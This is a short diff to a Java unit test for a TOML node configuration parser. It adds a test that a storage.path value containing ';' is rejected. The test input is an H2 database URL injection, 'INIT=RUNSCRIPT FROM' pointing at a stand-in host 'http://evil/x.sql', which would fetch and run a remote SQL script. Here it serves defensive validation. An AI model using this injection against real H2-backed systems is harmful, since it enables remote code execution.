@@ -91,6 +91,9 @@ class NodeConfigTest {
                 error("path-identity = \"a b\"\n"));
         assertEquals("t.toml line 1: server.posting: expected true or false",
                 error("server.posting = 1\npath-identity = \"x\"\n"));
+        assertEquals("t.toml line 2: storage.path: must not contain ';'",
+                error("path-identity = \"x\"\nstorage.path = \"data;INIT=RUNSCRIPT FROM 'http://evil/x.sql'\"\n"),
+                "H2 would read what follows ';' in its URL as settings");
         assertTrue(error("path-identity = \"x\"\nbad = [\n").matches("t.toml line [23]: Unexpected end of input.*"),
                 "a TOML syntax error names its line");
     }
